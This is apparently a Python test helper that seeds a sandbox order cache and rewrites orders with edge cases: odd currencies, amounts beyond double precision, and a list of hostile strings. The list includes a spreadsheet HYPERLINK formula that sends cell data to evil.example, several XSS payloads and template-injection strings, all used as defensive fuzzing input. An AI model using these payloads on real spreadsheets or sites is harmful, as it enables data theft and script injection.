"""A person with years of orders in the cache, some of them changed to what a service may say but the sandbox does not:
names that want to be code, other currencies, amounts that a double cannot hold."""

import glob
import json
import re
import sqlite3
from decimal import Decimal

import harness

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"free")', '+1+1', '-2', '@SUM(A1)', "'=already", "'Tis fine", '\t=1', '＝1+1',
    '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>', ']]>--><!--<b>', 'a "quoted", name',
    'two  spaces  ; comment', 'date:2001-01-01', '[2001-01-01]', 'Expenses:Fake  1000 USD', 'back\\slash; and, comma',
    'line\none\r\ntwo', 'Pho ' + 'bò ' * 60, '🍜' * 40, '${alert(1)} {{7*7}}', '\u202egnp.exe', 'javascript:alert(1)', '| pipe (x)',
]


class TestCase(harness.TestCase):
    start_daemon = False
    orders = 40

    def setUp(self):
        super().setUp()
        if self.orders <= 10000:
            self.sandbox.seed('ann', self.orders, **{'from': '2023-01-01', 'to': '2026-06-30'})
        # More come 10 000 a year, so that no answer of the sandbox takes long.
        for year in range(2026 - self.orders // 10000, 2026) if self.orders > 10000 else ():
            self.sandbox.seed('ann', 10000, seed=year, **{'from': f'{year}-01-01', 'to': f'{year}-12-31'})
        self.start()
        self.sign_in(password='sandbox-password')
        self.sync()
        # They come in the order of their changes: whoever has the last one has them all.
        harness.poll(lambda: len(self.rows()) == min(self.orders, 10000) and self.rows()[0][1] == f'C-{self.orders:06}',
                     300, 'all orders', every=1 if self.orders > 10000 else 0.05)

    def rows(self, **filter):
        """Rows of Orders.List."""
        return self.client.call('Orders', 'List', '(a{sv}us)', (filter, 10000, ''))[0]

    def edit(self, change):
        """change(i, body) for each order in the cache, oldest first; a changed body goes back, with the columns that
        follow from it. The daemon starts anew."""
        self.stop()
        path = next(p for p in glob.glob(f'{self.dir}/cache/customerclient/*/*.db') if not p.endswith('/catalog.db'))
        db = sqlite3.connect(path)
        for i, (row, text) in enumerate(db.execute('SELECT id, body FROM orders ORDER BY created').fetchall()):
            body = json.loads(text)
            if change(i, body):
                digits = {'JPY': 0, 'KWD': 3}.get(body['currency'], 2)
                status = body['status'].lower().replace(' ', '-')
                # A decimal that is kept as text goes into the JSON as the number it says, exactly.
                text = re.sub(r'((?:p|P)rice": )"([0-9.]+)"', r'\1\2', json.dumps(body))
                total = int(Decimal(str(body['totalPrice'])).scaleb(digits))
                db.execute('UPDATE orders SET body = ?, currency = ?, total = ?, status = ?, pending = ? WHERE id = ?',
                           (text, body['currency'], total, status,
                            status not in ('delivered', 'finished', 'cancelled', 'rejected'), row))
        # What is kept of the bodies for statistics is made anew.
        db.execute('DELETE FROM order_facts')
        db.execute("DELETE FROM meta WHERE key = 'facts-filled'")
        db.commit()
        db.close()
        self.start()

    def hostile(self):
        """Each of HOSTILE as a product, its note, a place and a comment; three currencies; an amount over 2^53; one that
        is not paid, one that is under way, one whose total is not the sum of its parts."""
        def change(i, body):
            if i < len(HOSTILE):
                body['products'][0]['product']['name'] = HOSTILE[i]
                body['products'][0]['note'] = HOSTILE[-1 - i]
                body['destination'] = HOSTILE[i - 5]
                body['comment'] = HOSTILE[i - 9]
                if body['status'] == 'Cancelled':
                    body['status'] = 'Finished'
            elif i == 30:
                body.update(currency='JPY', productsPrice=1200, deliveryPrice=300, additionalPrice=0, taxPrice=96, totalPrice=1596,
                            status='Finished', paymentType='Cash', payments=[])
                body['products'] = [{**body['products'][0], 'price': 600, 'quantity': 2}]
            elif i == 31:
                body.update(currency='KWD', productsPrice='1.234', deliveryPrice='0.5', additionalPrice=0, taxPrice='0.099',
                            totalPrice='1.833', status='Finished', paymentType='Cash', payments=[])
                body['products'] = [{**body['products'][0], 'price': '1.234', 'quantity': 1}]
            elif i == 32:
                body.update(productsPrice='90071992547409.93', deliveryPrice=0, additionalPrice=0, taxPrice=0,
                            totalPrice='90071992547409.93', status='Finished', paymentType='Cash', payments=[])
                body['products'] = [{**body['products'][0], 'price': '90071992547409.93', 'quantity': 1}]
            elif i == 33:
                body.update(status='Cancelled')
            elif i == 34:
                body.update(status='Finished', totalPrice=body['totalPrice'] - 1)
            elif i == 35:
                body.update(status='In delivery', paymentType='Cash', payments=[])
            elif i == 36:
                body.update(products=[], status='Finished')
            else:
                return False
            return True
        self.edit(change)
